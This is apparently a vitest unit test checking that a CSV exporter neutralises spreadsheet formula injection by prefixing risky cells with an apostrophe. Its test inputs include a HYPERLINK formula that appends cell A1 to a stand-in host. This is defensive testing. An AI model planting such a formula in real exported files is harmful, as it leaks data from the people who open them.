import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { toCsv } from "../../../../src/domain/export/csv.ts";

describe("toCsv: every export neutralises formula cells", () => {
  const dangerous = [
    '=HYPERLINK("//example.invalid/?"&A1,"ok")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1",
  ];

  it.each(dangerous)(
    "GIVEN a cell %j THEN it comes out starting with an apostrophe, text not formula",
    (value) => {
      const [row] = parse(toCsv([{ name: value, ok: true }], ["name", "ok"]), { columns: true }) as {
        name: string;
        ok: string;
      }[];
      expect(row?.name).toBe(`'${value}`);
      expect(row?.ok).toBe("true");
    },
  );

  it("GIVEN ordinary text, numbers and an ISO date THEN they are left as they are", () => {
    const csv = toCsv(
      [{ name: "山田 花子", hours: -3, at: "2026-04-01T00:00:00.000Z" }],
      ["name", "hours", "at"],
    );
    expect(csv).toBe("name,hours,at\n山田 花子,-3,2026-04-01T00:00:00.000Z\n");
  });
});
